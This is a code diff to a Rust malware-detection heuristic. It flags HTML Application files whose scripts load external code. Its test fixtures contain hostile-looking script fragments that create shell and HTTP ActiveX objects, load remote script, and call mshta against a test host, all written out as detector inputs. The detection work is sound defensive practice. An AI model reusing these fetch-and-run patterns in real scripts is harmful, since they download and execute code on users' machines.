@@ -18,6 +18,14 @@ pub(super) const RULE: Heuristic = Heuristic {
 
 fn check(tree: &Tree, hit: &mut Check) {
     for script in scripts(tree) {
+        // What an HTML application loads runs as freely as what stands in it.
+        let loads = || ["script", "frame", "object"].iter().find_map(|way| script.leads(way).next());
+        if let Some(target) =
+            Some(&script).filter(|script| script.holder.kind.id == "hta").and_then(|_| loads())
+        {
+            hit(script.holder.id, target.to_string());
+            continue;
+        }
         if let Some(shown) = script.first(Sign::Download).filter(|_| starts(&script)) {
             hit(script.holder.id, shown.to_string());
         }
@@ -69,6 +77,8 @@ mod tests {
                 "<job><script language=JScript><![CDATA[new ActiveXObject('WinHttp.WinHttpRequest.5.1'); new ActiveXObject('Shell.Application')]]></script></job>",
                 1,
             ),
+            ("a.hta", "<html><script src='https://a.test/x.js'></script>", 1),
+            ("a.hta", "<html><hta:application><script>document.title = 'x';</script>", 0),
             (
                 "a.txt",
                 "<scriptlet><registration progid='a'/><object id='o' progid='WScript.Shell'/><resource id='c'>mshta http://a.test</resource>\
